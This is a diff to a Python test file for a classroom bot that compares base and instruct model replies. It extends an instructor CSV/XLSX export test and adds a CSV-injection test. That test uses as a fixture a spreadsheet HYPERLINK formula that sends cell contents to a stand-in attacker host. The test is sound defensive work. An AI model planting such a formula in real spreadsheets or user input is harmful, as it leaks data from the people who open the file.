@@ -3,10 +3,10 @@
 from __future__ import annotations
 
 import asyncio
-import csv
 import io
 import re
 import time
+from dataclasses import replace
 
 import pytest
 
@@ -22,6 +22,7 @@ from bot.llm.queue import Cooldowns, LlmTraffic, TokenBudget, Upstream
 from bot.replies import Attachment, Columns, Reply, plain_text
 from bot.settings import load_settings
 from tests.conftest import make_request, replies_of
+from tests.export_support import csv_rows, xlsx_cells, xlsx_rows
 from tests.fake_clock import ManualClock, settle
 from tests.fake_llm import (
     API_KEY,
@@ -441,10 +442,37 @@ async def test_export_is_a_csv_for_instructors(make_aula):
     [refused] = await replies_of(app, compare_request(exportar=True))
     assert refused.error
     [reply] = await replies_of(app, compare_request(exportar=True, instructor=True, user_id="prof"))
-    [attachment] = [p for p in reply.parts if isinstance(p, Attachment)]
-    rows = list(csv.DictReader(io.StringIO(attachment.data.decode("utf-8"))))
+    csv_file, xlsx_file = [p for p in reply.parts if isinstance(p, Attachment)]
+    assert (csv_file.filename, xlsx_file.filename) == ("compare.csv", "compare.xlsx")
+    rows = csv_rows(csv_file.data)
     assert [r["role"] for r in rows] == ["base", "instruct"]
     assert rows[0]["prompt"] == "Hola, ¿puedes ayudarme?" and rows[1]["text"].startswith("¡Claro!")
+    # ISO 8601 with the class's offset (homework.timezone, Buenos Aires by default), not epoch seconds
+    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d-03:00", rows[0]["at"])
+    in_xlsx = xlsx_rows(xlsx_file.data)
+    assert [r["role"] for r in in_xlsx] == ["base", "instruct"] and in_xlsx[0]["at"] == rows[0]["at"]
+    assert in_xlsx[0]["prompt_tokens"] == int(rows[0]["prompt_tokens"])
+
+
+async def test_the_export_neutralises_formulas_from_the_prompt_the_model_and_the_name(make_aula):
+    """A student's prompt, a model's text or a display name beginning with = + - @ would run as a
+    formula when the instructor opens the CSV (CSV injection); the xlsx keeps them as text."""
+    app = await make_aula()
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
+    request = compare_request(prompt=hostile)
+    request = replace(request, user=replace(request.user, name="@SUM(1+1)"))
+    await replies_of(app, request)
+    [reply] = await replies_of(app, compare_request(exportar=True, instructor=True, user_id="prof"))
+    csv_file, xlsx_file = [p for p in reply.parts if isinstance(p, Attachment)]
+    rows = csv_rows(csv_file.data)
+    assert rows[0]["prompt"] == "'" + hostile and rows[0]["user_name"] == "'@SUM(1+1)"
+    assert rows[1]["text"].startswith("¡Claro!")
+    sheet = xlsx_cells(xlsx_file.data)
+    header = [c.value for c in sheet[0]]
+    prompt = sheet[1][header.index("prompt")]
+    assert prompt.value == hostile and prompt.data_type == "s"  # shown as typed, never evaluated
+    assert sheet[1][header.index("user_name")].value == "@SUM(1+1)"
+    assert sheet[1][header.index("prompt_tokens")].data_type == "n"  # numbers stay numbers
 
 
 async def test_forget_removes_a_students_comparisons_and_votes(make_aula):
